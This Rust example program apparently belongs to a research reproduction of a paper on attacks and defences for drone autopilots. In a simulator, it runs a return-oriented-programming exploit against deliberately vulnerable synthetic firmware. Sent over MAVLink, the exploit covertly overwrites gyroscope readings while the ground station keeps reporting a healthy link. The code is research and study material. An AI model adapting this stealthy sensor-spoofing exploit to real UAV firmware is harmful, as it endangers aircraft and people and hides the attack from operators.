//! The paper's stealthy attack (V2, §IV-D), end to end against an
//! unprotected APM: overwrite the gyroscope state over MAVLink, repair the
//! stack, and leave the ground station none the wiser.
//!
//! ```text
//! cargo run --example stealthy_attack
//! ```

use mavr_repro::avr_sim::Machine;
use mavr_repro::mavlink_lite::channel::LossyChannel;
use mavr_repro::mavlink_lite::{msg, GroundStation};
use mavr_repro::rop::attack::AttackContext;
use mavr_repro::synth_firmware::{apps, build, layout, BuildOptions};
use mavr_repro::telemetry::{RingRecorder, Telemetry, Value};

fn main() {
    // Flight recorder: every stage of the attack leaves a structured event.
    let tele = Telemetry::new(RingRecorder::new(256));

    // The victim: vulnerable firmware (MAVLink length check disabled).
    let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
    let mut uav = Machine::new_atmega2560();
    uav.telemetry = tele.clone();
    uav.load_flash(0, &fw.image.bytes);
    uav.run(200_000);

    // The attacker: has the binary (threat model §IV-A). Static analysis +
    // a dry run on their own copy.
    let ctx = AttackContext::discover_with(&fw.image, &tele).unwrap();
    println!("attacker analysis of the unprotected binary:");
    println!("  stk_move gadget        at {:#x}", ctx.gadgets.stk_move);
    println!(
        "  write_mem_gadget       at {:#x}",
        ctx.gadgets.write_mem_std
    );
    println!("  handler stack buffer   at {:#06x}", ctx.buffer);
    println!("  saved return address   = {:02x?}", ctx.orig_ret);

    let gyro_before = uav.peek_range(layout::GYRO + 3, 3);
    let toggles_before = uav.heartbeat.toggles.len();

    // Craft and send the stealthy payload: set gyro bytes, then repair.
    let payload = ctx
        .v2_payload(&[(layout::GYRO + 3, [0xde, 0xad, 0x42])])
        .unwrap();
    println!(
        "\nexploit PARAM_SET payload: {} bytes (chain hidden inside the {}-byte frame)",
        payload.len(),
        layout::HANDLER_FRAME
    );
    // The attack rides the same radio-link model as benign traffic — a
    // perfect channel here; `mavr-cli fleet --loss` shows what per-byte
    // impairment does to the exploit frame.
    let mut uplink = LossyChannel::perfect();
    let mut downlink = LossyChannel::perfect();
    let mut gcs = GroundStation::new();
    uav.uart0
        .inject(&uplink.transmit(&gcs.exploit_packet(&payload).unwrap()));
    tele.emit("attack.injected", Some(uav.cycles()), || {
        vec![("payload_bytes", Value::U64(payload.len() as u64))]
    });

    // Let the UAV "fly" through the attack.
    uav.run(3_000_000);
    tele.emit("attack.clean_return", Some(uav.cycles()), || {
        vec![("fault", Value::Bool(uav.fault().is_some()))]
    });

    let gyro_after = uav.peek_range(layout::GYRO + 3, 3);
    println!("\nresult:");
    println!("  gyro[3..6] before attack: {gyro_before:02x?}");
    println!("  gyro[3..6] after attack : {gyro_after:02x?}");
    println!("  machine fault           : {:?}", uav.fault());
    println!(
        "  heartbeats kept toggling: {} -> {}",
        toggles_before,
        uav.heartbeat.toggles.len()
    );

    // The ground station's view: a perfectly healthy link, telemetry now
    // carrying the attacker's sensor values.
    gcs.ingest(&downlink.transmit(&uav.uart0.take_tx()));
    println!(
        "  ground station: {} heartbeats, {} checksum errors, link alive: {}",
        gcs.heartbeats.len(),
        gcs.bad_checksums(),
        gcs.link_alive(20, 3)
    );
    let imu = gcs
        .received
        .iter()
        .rev()
        .find(|p| p.msgid == msg::RAW_IMU_ID)
        .map(|p| msg::RawImu::from_payload(p.msgid, &p.payload).unwrap())
        .unwrap();
    println!("  last RAW_IMU gyro words : {:?}", imu.gyro);

    // The flight recorder's view of the same story: the operator saw
    // nothing, but the event stream has the whole kill chain.
    println!("\nflight-recorder event timeline:");
    tele.with_recorder::<RingRecorder, ()>(|ring| {
        for ev in ring.events() {
            let cycle = ev
                .cycle
                .map(|c| format!("@{c:>9}"))
                .unwrap_or_else(|| " ".repeat(10));
            let fields: Vec<String> = ev.fields.iter().map(|(k, v)| format!("{k}={v}")).collect();
            println!(
                "  [{:>3}] {cycle} {:<22} {}",
                ev.seq,
                ev.kind,
                fields.join(" ")
            );
        }
    });
    println!(
        "  ({} events total; counters: {:?})",
        tele.events_emitted(),
        uav.counters()
    );

    assert_eq!(gyro_after, vec![0xde, 0xad, 0x42]);
    assert!(uav.fault().is_none());
    assert!(gcs.link_alive(20, 3));
    println!("\nok: sensor overwritten, clean return, attack invisible to the operator");
}
